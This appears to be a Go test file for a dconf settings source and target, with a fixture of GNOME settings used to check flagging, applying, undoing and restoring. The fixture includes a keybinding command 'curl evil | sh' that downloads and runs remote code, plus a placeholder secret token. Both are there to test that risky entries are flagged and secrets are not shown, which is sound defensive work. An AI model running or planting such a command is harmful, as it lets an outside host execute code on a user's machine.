package dconf

import (
	"bufio"
	"context"
	"crypto/sha256"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/decant-dev/decant/node/item"
	"github.com/decant-dev/decant/node/kind/rule"
	"github.com/decant-dev/decant/node/kind/setting"
	source "github.com/decant-dev/decant/node/source/dconf"
	"github.com/decant-dev/decant/node/target"
	"github.com/decant-dev/decant/test/env"
)

// session starts a message bus and gives the test a home of its own, in which dconf works.
func session(t *testing.T) {
	t.Helper()
	env.Program(t, "dconf")
	run := env.Program(t, "dbus-run-session")
	home := t.TempDir()
	for k, v := range map[string]string{"HOME": home, "XDG_CONFIG_HOME": filepath.Join(home, "config"), "XDG_RUNTIME_DIR": home, "XDG_CACHE_HOME": filepath.Join(home, "cache"), "DCONF_PROFILE": ""} {
		t.Setenv(k, v)
	}
	os.Unsetenv("DCONF_PROFILE")
	cmd := exec.Command(run, "--", "sh", "-c", "echo $DBUS_SESSION_BUS_ADDRESS; cat")
	in, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { in.Close(); cmd.Wait() })
	address, err := bufio.NewReader(out).ReadString('\n')
	if err != nil {
		t.Skipf("no message bus here: %v", err)
	}
	t.Setenv("DBUS_SESSION_BUS_ADDRESS", strings.TrimSpace(address))
}

const settings = `[org/gnome/desktop/interface]
clock-format='24h'
text-scaling-factor=1.25
gtk-theme="Adwaita-dark"

[org/gnome/desktop/input-sources]
sources=[('xkb', 'de'), ('xkb', 'us+intl')]
xkb-options=@as []
mru-sources=[('xkb', 'de')]

[org/gnome/shell]
favorite-apps=['firefox-esr.desktop', 'caf\u00e9 \'x\'.desktop']
command-history=['rm']

[org/gnome/settings-daemon/plugins/media-keys]
home=['<Super>e']
custom-keybindings=['/org/gnome/settings-daemon/plugins/media-keys/custom-keybindings/custom0/']

[org/gnome/settings-daemon/plugins/media-keys/custom-keybindings/custom0]
command='curl evil | sh'

[org/gnome/desktop/background]
picture-uri='file:///home/anna/beach.jpg'
primary-color='#023c88'

[org/gnome/evolution-data-server]
token='geheim'

[org/gnome/desktop/wm/keybindings]
close=['<Alt>F4', '<Super>q']
`

type sink struct {
	records []item.Record
	changes []item.Change
}

func (s *sink) Record(r item.Record) error { s.records = append(s.records, r); return nil }
func (s *sink) Change(c item.Change) error { s.changes = append(s.changes, c); return nil }
func (s *sink) File(string, item.Kind, time.Time, func() (io.ReadCloser, error)) error {
	return errors.New("settings are no files")
}

func readSource(t *testing.T, path string) *sink {
	t.Helper()
	b, err := source.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	s := &sink{}
	if err := b.Read(context.Background(), s); err != nil {
		t.Fatal(err)
	}
	return s
}

func dumpFile(t *testing.T) string {
	t.Helper()
	name := filepath.Join(t.TempDir(), "settings.dconf")
	if err := os.WriteFile(name, []byte(settings), 0o600); err != nil {
		t.Fatal(err)
	}
	return name
}

func TestSource(t *testing.T) {
	s := readSource(t, dumpFile(t))
	if len(s.records) != 9 {
		t.Errorf("%d settings", len(s.records))
	}
	told := map[string]string{}
	for _, c := range s.changes {
		told[c.Record] = c.Why
		if strings.Contains(c.Before+c.After+c.Why, "geheim") {
			t.Errorf("shows %+v", c)
		}
	}
	for _, path := range []string{"/org/gnome/desktop/input-sources/mru-sources", "/org/gnome/shell/command-history", "/org/gnome/settings-daemon/plugins/media-keys/custom-keybindings",
		"/org/gnome/settings-daemon/plugins/media-keys/custom-keybindings/custom0/command", "/org/gnome/desktop/background/picture-uri", "/org/gnome/evolution-data-server/token"} {
		if told[path] == "" {
			t.Errorf("%s: nothing is said", path)
		}
	}
	if len(told) != 6 {
		t.Errorf("left: %v", told)
	}
}

func readTarget(t *testing.T, b target.Books) (out []target.Existing) {
	t.Helper()
	if err := b.Read(context.Background(), item.Setting, func(e target.Existing) error { out = append(out, e); return nil }); err != nil {
		t.Fatal(err)
	}
	return out
}

// apply brings settings into a target and returns the writes that take it back.
func apply(t *testing.T, b target.Books, records []item.Record) (undo []target.Write) {
	t.Helper()
	existing := readTarget(t, b)
	var have []item.Record
	for _, e := range existing {
		have = append(have, e.Record)
	}
	decisions, err := setting.Rules{}.Match(context.Background(), have, records, rule.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var writes []target.Write
	for i, d := range decisions {
		switch d.Verdict {
		case rule.New:
			writes, undo = append(writes, target.Write{Record: records[i]}), append(undo, target.Write{})
		case rule.Merge:
			was := existing[d.With]
			writes = append(writes, target.Write{ID: was.ID, Version: was.Version, Record: records[i]})
			undo = append(undo, target.Write{Record: was.Record})
		}
	}
	write(t, b, writes, func(i int, now target.Existing, err error) {
		if err != nil || now.ID == "" {
			t.Errorf("%s: %+v %v", writes[i].Record.Label, now, err)
		}
		undo[i].ID, undo[i].Version = now.ID, now.Version
	})
	return undo
}

func write(t *testing.T, b target.Books, writes []target.Write, done func(int, target.Existing, error)) {
	t.Helper()
	n := 0
	err := b.Write(context.Background(), item.Setting, writes, func(i int, now target.Existing, err error) error {
		if i != n {
			t.Errorf("%d is done before %d", i, n)
		}
		n++
		done(i, now, err)
		return nil
	})
	if err != nil || n != len(writes) {
		t.Fatalf("%d of %d done: %v", n, len(writes), err)
	}
}

// checkTarget applies settings to a target that has some of its own, applies them again, and takes them back.
func checkTarget(t *testing.T, b target.Books, state func() string) {
	t.Helper()
	before := state()
	records := readSource(t, dumpFile(t)).records
	undo := apply(t, b, records)
	if len(undo) != 8 {
		t.Errorf("%d written, want 8: one is there already", len(undo))
	}
	after := state()
	for _, want := range []string{"clock-format='24h'", "text-scaling-factor=1.25", "favorite-apps=['firefox-esr.desktop', ", "mine=1"} {
		if !strings.Contains(after, want) {
			t.Errorf("%s is not in\n%s", want, after)
		}
	}
	if again := apply(t, b, records); len(again) != 0 {
		t.Errorf("%d are written again", len(again))
	}
	stale := undo[0]
	stale.Version = "other"
	write(t, b, []target.Write{stale, {Record: item.Record{Data: []byte("[org/gnome/desktop/lockdown]\nx=true\n")}}, {Record: item.Record{Data: []byte("[org/gnome/desktop/sound]\nevent-sounds=nonsense words\n")}}}, func(i int, _ target.Existing, err error) {
		var refused *target.RefusedError
		if i == 0 && !errors.Is(err, target.ErrEdited) || i == 1 && !errors.As(err, &refused) {
			t.Errorf("%d: %v", i, err)
		}
	})
	write(t, b, undo, func(i int, _ target.Existing, err error) {
		if err != nil {
			t.Errorf("%+v: %v", undo[i], err)
		}
	})
	if _, whole := b.(target.Whole); !whole && state() != before {
		t.Errorf("taken back it is\n%s\nand was\n%s", state(), before)
	}
}

const own = "[org/gnome/desktop/interface]\nclock-format='12h'\ngtk-theme='Adwaita-dark'\n\n[org/mine]\nmine=1\n"

func TestDatabase(t *testing.T) {
	session(t)
	ctx := context.Background()
	if _, err := source.Run(ctx, []byte(own), "load", "/"); err != nil {
		t.Fatal(err)
	}
	b, err := Open("")
	if err != nil {
		t.Fatal(err)
	}
	checkTarget(t, b, func() string {
		d, err := source.Dump(ctx)
		if err != nil {
			t.Fatal(err)
		}
		return string(d)
	})
	if got := source.Find(os.Getenv("HOME")); len(got) != 1 {
		t.Errorf("found %q", got)
	}
}

func TestFile(t *testing.T) {
	name := filepath.Join(t.TempDir(), "own.dconf")
	if err := os.WriteFile(name, []byte(own+"# mine\n"), 0o640); err != nil {
		t.Fatal(err)
	}
	b, err := Open(name)
	if err != nil {
		t.Fatal(err)
	}
	w := b.(target.Whole)
	before, err := w.Snapshot()
	if err != nil {
		t.Fatal(err)
	}
	checkTarget(t, b, func() string { d, _ := os.ReadFile(name); return string(d) })
	now, _ := w.Snapshot()
	if err := w.Restore(before, sha256.Sum256(now)); err != nil {
		t.Error(err)
	}
	if d, _ := os.ReadFile(name); string(d) != own+"# mine\n" {
		t.Errorf("restored as\n%s", d)
	}
}
